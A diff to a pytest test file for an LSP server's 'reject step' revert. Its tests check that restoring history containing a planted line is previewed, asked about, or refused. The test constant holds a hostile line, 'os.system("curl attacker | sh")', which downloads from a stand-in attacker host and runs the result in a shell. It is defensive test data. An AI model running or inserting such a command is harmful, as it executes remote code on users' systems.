@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import pytest
 import pytest_lsp
 from lsprotocol import types
 
@@ -10,6 +11,7 @@ from mtmc_lsp.optimizer.history import StepHistory
 
 from .conftest import TEST_SETTINGS
 from .editor import CLIENTS, CONFIG, EXAMPLES, EditorClient, execute_command, initialize_params
+from .raw_client import RawClient, frame
 
 MATMUL = (EXAMPLES / "matmul.py").read_text()
 INJECTED = 'import os; os.system("curl attacker | sh")  # planted'
@@ -74,3 +76,76 @@ async def test_an_untrusted_workspace_cannot_revert_from_its_history(untrusted_c
     assert not client.applied_edits and not client.message_requests
     assert INJECTED not in client.buffer_text(uri)
     assert any(m.type == types.MessageType.Warning and "Reject Step" in m.message for m in client.messages)
+
+
+@pytest_lsp.fixture(config=CONFIG)
+async def annotations_only_client(lsp_client: EditorClient, tmp_path):
+    """A client that announces change annotations but not documentChanges (so it cannot be sent any)."""
+    yield
+    await lsp_client.shutdown_session()
+
+
+async def _start_announcing(client: EditorClient, tmp_path, document_changes: bool) -> tuple[str, str]:
+    document = tmp_path / "matmul.py"
+    step_id = plant_history(tmp_path, document)
+    client.set_configuration({"mtmc": {**SETTINGS, "trusted": True}})
+    params = initialize_params("visual-studio-code", tmp_path)
+    params.capabilities.workspace.workspace_edit.document_changes = document_changes
+    assert params.capabilities.workspace.workspace_edit.change_annotation_support is not None
+    await client.initialize_session(params)
+    uri = document.as_uri()
+    client.open(uri, MATMUL.replace("num_warps=4", "num_warps=8"))
+    await client.diagnostics_for(uri, version=1)
+    return uri, step_id
+
+
+@pytest.mark.parametrize("answer", ["Keep", "Revert"])
+async def test_a_client_with_annotations_but_no_document_changes_is_asked(annotations_only_client: EditorClient,
+                                                                         tmp_path, answer):
+    client = annotations_only_client
+    uri, step_id = await _start_announcing(client, tmp_path, document_changes=False)
+    client.message_answer = answer
+    result = await execute_command(client, "mtmc.rejectStep", uri, step_id)
+    (question,) = client.message_requests  # it cannot preview: asked before anything is applied
+    assert INJECTED in question.message and [a.title for a in question.actions] == ["Revert", "Keep"]
+    if answer == "Keep":
+        assert result["rejected"] is False and not client.applied_edits
+        assert INJECTED not in client.buffer_text(uri)
+    else:  # the user saw the line and chose it: a plain edit (nothing to annotate it with)
+        (params,) = client.applied_edits
+        assert params.edit.document_changes is None and params.edit.change_annotations is None
+        assert result["rejected"] is True and INJECTED in client.buffer_text(uri)
+
+
+class ClientThatCannotAsk(RawClient):
+    """Announces change annotations but not documentChanges, and answers window/showMessageRequest with an error."""
+
+    def _received(self, message: dict) -> None:
+        if message.get("method") == "window/showMessageRequest" and "id" in message:
+            self.server_requests.append(message)
+            self.send_raw(frame({"jsonrpc": "2.0", "id": message["id"],
+                                 "error": {"code": -32601, "message": "not supported"}}))
+            return
+        super()._received(message)
+
+
+def test_a_client_that_can_neither_preview_nor_ask_gets_no_revert(tmp_path):
+    client = ClientThatCannotAsk.in_process(dict(SETTINGS, trusted=True))
+    try:
+        document = tmp_path / "matmul.py"
+        step_id = plant_history(tmp_path, document)
+        client.initialize(tmp_path, {"workspace": {"configuration": True, "applyEdit": True,
+                                                   "workspaceEdit": {"changeAnnotationSupport": {}}}})
+        uri = document.as_uri()
+        client.open(uri, MATMUL.replace("num_warps=4", "num_warps=8"))
+        assert client.wait_for(lambda: any(n["method"] == "textDocument/publishDiagnostics"
+                                           for n in client.notifications), 20)  # the settings are known
+        reply = client.call("workspace/executeCommand", {"command": "mtmc.rejectStep", "arguments": [uri, step_id]})
+        assert reply["result"]["rejected"] is False
+        assert [r["method"] for r in client.server_requests if r["method"] != "workspace/configuration"] == [
+            "window/showMessageRequest"]  # asked (and it failed); no workspace/applyEdit
+        assert INJECTED not in client.buffers[uri][0]
+        shown = [n["params"]["message"] for n in client.notifications if n["method"] == "window/showMessage"]
+        assert any("neither preview the revert nor ask" in message for message in shown)
+    finally:
+        client.close()
